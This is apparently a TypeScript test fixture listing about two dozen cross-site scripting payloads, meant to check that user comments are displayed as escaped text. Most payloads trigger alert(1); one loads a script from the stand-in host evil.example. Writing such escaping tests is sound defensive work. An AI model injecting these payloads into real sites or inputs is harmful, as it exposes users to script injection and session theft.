// A representative selection of the kinds of strings public XSS payload lists collect
// (script elements, event handlers, attribute and element break-outs, javascript: and data:
// URLs, encodings, a URL that tries to leave its href), written for these tests. Each must
// come out as text wherever a comment is shown.
export const XSS_PAYLOADS: string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(document.domain)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus="alert(1)',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '<a href="javascript:alert(1)">クリック</a>',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'https://example.jp/"onmouseover="alert(1)',
  "https://example.jp/'><script>alert(1)</script>",
  'https://example.jp/<img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<svg><![CDATA[</svg><script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<div style="background:url(javascript:alert(1))">',
  '<body onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u2028\u2029<script>alert(1)</script>',
];
